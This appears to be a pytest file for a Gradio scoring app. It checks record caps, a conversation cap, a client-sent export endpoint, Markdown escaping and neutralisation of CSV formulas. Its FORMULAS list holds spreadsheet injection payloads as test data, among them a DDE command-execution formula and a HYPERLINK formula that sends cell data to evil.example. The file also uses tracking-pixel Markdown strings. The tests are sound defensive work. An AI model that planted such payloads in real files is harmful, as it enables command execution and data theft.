"""Issue 27, items 3 and 5: every input path under the same caps, downloads built from what the
server computed, no live spreadsheet formula in any CSV, visitor text shown as text in Markdown."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import gradio as gr
import pandas as pd
import pytest

from core.spreadsheet import FORMULA_STARTS, csv_text
from tests.ui.test_ui_batch import make_state, run
from ui.tabs import batch as tab_batch
from ui.tabs import score as tab_score
from ui.settings import AppSettings
from ui.state import AppState

ROOT = Path(__file__).resolve().parents[2]
CONVERSATION = ["What is the capital of France?", "Paris."]
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+cmd|x",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def live_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would run: text starting with a formula character that is not a number."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", c)]


def test_parquet_and_jsonl_are_refused_at_the_same_record_cap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FLR_MAX_RECORDS", "100")  # the app's 50,000, lowered so the test stays fast
    rows = [{"prompt": f"q{i}", "chosen": "good", "rejected": "bad"} for i in range(101)]
    parquet, jsonl = tmp_path / "big.parquet", tmp_path / "big.jsonl"
    pd.DataFrame(rows).to_parquet(parquet)
    jsonl.write_text("".join(json.dumps(r) + "\n" for r in rows))
    for path in (jsonl, parquet):
        with pytest.raises(gr.Error, match=rf"{path.name}: more than 100 records"):
            tab_batch.preview([str(path)], tab_batch.AUTO, "")
    pd.DataFrame(rows[:100]).to_parquet(parquet)
    frame, _ = tab_batch.preview([str(parquet)], tab_batch.AUTO, "")
    assert int(frame["rows"].iloc[0]) == 100


def test_a_hosted_run_over_the_conversation_cap_is_refused_before_scoring(tmp_path: Path) -> None:
    rows = [{"prompt": f"q{i}", "chosen": f"good {i}", "rejected": f"bad {i}"} for i in range(4)]
    path = tmp_path / "pairs.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    calls: list[int] = []

    def factory(config):
        calls.append(1)
        raise AssertionError("no model may load for a refused run")

    state = AppState(AppSettings(work_dir=tmp_path / "w", allowed_models=("embedded",), run_conversations=5), factory)
    with pytest.raises(gr.Error, match=r"would score 8 conversations; this server scores at most 5 per run"):
        run(state, [str(path)])
    assert calls == []
    assert "at most 5 conversations" in tab_batch.hosted_note(state.settings)


def test_the_private_download_endpoint_never_writes_a_client_sent_record(tmp_path: Path) -> None:
    """Through gradio's queue, as a hostile client calls it: the endpoint that builds the Score
    tab's downloads took the record and table from the request and wrote them as an export."""
    import httpx

    from tests.ui.test_app_client import running_app

    marker = "CLIENT-SENT-" + "x" * 1_000_000
    with running_app(tmp_path / "app") as url:
        deps = httpx.get(url + "config").json()["dependencies"]
        [fn] = [d["id"] for d in deps if d.get("api_name") == "result_files"]
        session = "hostile12345"
        joined = httpx.post(url + "gradio_api/queue/join", timeout=30, json={
            "data": [{"flr": 1.0, "note": marker}, {"headers": ["a"], "data": [[marker]]}],
            "fn_index": fn, "session_hash": session, "event_data": None, "trigger_id": None})
        if joined.status_code == 200:
            with httpx.stream("GET", url + "gradio_api/queue/data", params={"session_hash": session},
                              timeout=30) as stream:
                for line in stream.iter_lines():
                    if "process_completed" in line:
                        break
    written = [p for p in (tmp_path / "app").rglob("*") if p.is_file() and p.suffix in (".json", ".csv")]
    assert not [p for p in written if "CLIENT-SENT" in p.read_text(errors="replace")]


def test_the_score_download_is_the_sessions_own_result_with_no_live_formula(tmp_path: Path) -> None:
    from types import SimpleNamespace

    from tests.ui.test_ui_score import FakeScorer

    state = AppState(AppSettings(work_dir=tmp_path), FakeScorer)
    followups = json.dumps({"relevance": {"positive": FORMULAS[:4], "negative": FORMULAS[4:]}})
    visitor = SimpleNamespace(session_hash="visitor")
    tab_score.score_conversation(state, "User: hi\nAssistant: hello", followups, ["relevance"], "embedded",
                                 "base", "mean", lambda *a, **k: None, visitor)
    json_path, csv_path = tab_score.result_files(state, visitor)
    text = Path(csv_path).read_text(encoding="utf-8")
    assert live_formulas(text) == [] and "'=HYPERLINK(" in text
    assert json.loads(Path(json_path).read_text())["flr"] == pytest.approx(
        state.results.get("visitor")[0]["flr"])


def test_batch_csv_has_no_live_formula_from_model_or_file_names_and_numbers_stay_numbers(tmp_path: Path) -> None:
    rows = [{"model": m, "conversation": CONVERSATION, "positive": [v], "negative": [0.5]}
            for m, v in ((FORMULAS[0], 1.0), ("![t](https://tracker.example/p.png)", 0.0), ("@c", 0.25))]
    path = tmp_path / "=rank.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    state, _ = make_state(tmp_path)
    headline, *_, downloads, _ = run(state, [str(path)])
    [csv_path] = [p for p in downloads if p.endswith(".csv")]
    text = Path(csv_path).read_text(encoding="utf-8")
    assert live_formulas(text) == []
    table = pd.read_csv(io.StringIO(text))
    assert table["flr"].dtype.kind == "f" and -0.5 in set(table["flr"])  # still numbers
    assert "](" not in headline and "![" not in headline  # the model names show as text


def test_model_names_and_categories_render_as_text_in_markdown(tmp_path: Path) -> None:
    state = AppState(AppSettings(work_dir=tmp_path), None)
    shown = tab_score.describe_config(state, "x` ![t](https://tracker.example/p.png) [log in](https://e.example) `y",
                                      "base", "mean")
    assert "![" not in shown and "](" not in shown and "`" not in shown.replace("\\`", "")


def test_formula_cells_are_neutralised_and_numbers_kept() -> None:
    frame = pd.DataFrame({"text": FORMULAS + ["-0.23", "+1e-3", "plain"], "value": [-0.23] * 10})
    out = pd.read_csv(io.StringIO(csv_text(frame)), keep_default_na=False)
    assert list(out["text"]) == ["'" + f.replace("\r", "\n") for f in FORMULAS] + ["-0.23", "+1e-3", "plain"]
    assert live_formulas(csv_text(pd.DataFrame({"t": ["ok\r=1+1", "ok\r\n@x"]}))) == []  # no row break
    assert out["value"].tolist() == [-0.23] * 10


def test_every_csv_writer_goes_through_the_one_helper() -> None:
    writers = [f"{p.relative_to(ROOT)}:{n}" for folder in ("core", "ui") for p in (ROOT / folder).rglob("*.py")
               for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
               if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", line)
               and p != ROOT / "core" / "spreadsheet.py"]
    assert writers == [], f"CSV written without core.spreadsheet.csv_text: {writers}"
